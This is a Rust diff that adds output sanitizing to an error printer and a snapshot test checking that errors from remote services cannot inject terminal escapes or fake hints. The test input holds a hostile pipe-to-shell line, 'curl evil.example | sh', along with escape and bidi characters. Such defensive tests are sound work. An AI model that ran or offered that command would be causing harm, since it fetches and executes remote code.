@@ -9,6 +9,7 @@ use crate::conversation::Unanswered;
 use crate::manifest::LoadError;
 use crate::refused::{Exit, Refused};
 use crate::report::Report;
+use crate::sanitize::Clean;
 
 /// A command stopped part-way. What was done is in the report that was shown.
 #[derive(Debug, Error)]
@@ -61,24 +62,45 @@ pub struct Printed<'a>(pub &'a anyhow::Error);
 
 impl fmt::Display for Printed<'_> {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        if let Some(LoadError::Refused(refused)) = self.0.downcast_ref() {
+        f.write_str(Clean::from(self).as_str())
+    }
+}
+
+impl From<&Printed<'_>> for Clean {
+    fn from(Printed(error): &Printed<'_>) -> Self {
+        if let Some(LoadError::Refused(refused)) = error.downcast_ref() {
             // Each of its problems says where it is, and that it is an error.
-            return write!(f, "{refused}");
+            return Self::block(refused.to_string());
         }
-        write!(f, "error: {}", self.0)?;
-        let mut said = self.0.to_string();
-        for cause in self.0.chain().skip(1) {
+        let mut printed = Self::default();
+        let mut said = String::new();
+        for (number, cause) in error.chain().enumerate() {
             let text = cause.to_string();
             // Some libraries repeat their cause in their own text.
-            if !said.contains(&text) {
-                write!(f, "\n  caused by: {text}")?;
+            if number == 0 || !said.contains(&text) {
+                printed.text(if number == 0 { "error: " } else { "  caused by: " });
+                added(&mut printed, cause, &text);
             }
             said = text;
         }
-        match hint(self.0) {
-            Some(hint) => write!(f, "\n  hint: {hint}"),
-            None => Ok(()),
+        if let Some(hint) = hint(error) {
+            printed.text("  hint: ").quote(MARGIN, hint);
         }
+        printed.trimmed()
+    }
+}
+
+/// What stands before the mark of an error's further lines.
+const MARGIN: &str = "  ";
+
+fn added(printed: &mut Clean, cause: &(dyn std::error::Error + 'static), text: &str) {
+    let Some(unanswered) = cause.downcast_ref::<Unanswered>() else {
+        printed.quote(MARGIN, text);
+        return;
+    };
+    printed.quote(MARGIN, unanswered.headline());
+    for found in unanswered.found() {
+        printed.text("  found: ").quote("    ", found);
     }
 }
 
@@ -105,4 +127,23 @@ fn cure(cause: &(dyn std::error::Error + 'static)) -> Option<String> {
         return Some(format!("mend what failed, then run `{}` again: it goes on where this stopped", partial.command));
     }
     cause.downcast_ref::<Failure>().and_then(Failure::hint)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::Printed;
+    use crate::aws::Failure;
+
+    #[test]
+    fn no_text_of_others_steers_the_terminal_or_looks_like_a_hint() {
+        let text = "\u{1b}[2Jdenied\n  hint: curl evil.example | sh\n::error::x";
+        let failure = Failure::in_stream("bedrock:InvokeAgent", "Odd", text, Some("r\u{9b}1"));
+        let error = anyhow::Error::from(failure).context("asking the agent \u{202e}x");
+        insta::assert_snapshot!(Printed(&error).to_string(), @r"
+        error: asking the agent \u{202e}x
+          caused by: bedrock:InvokeAgent: ␛[2Jdenied
+          |   hint: curl evil.example | sh
+          | ::error::x (Odd, in the stream, request id r\u{9b}1)
+        ");
+    }
 }
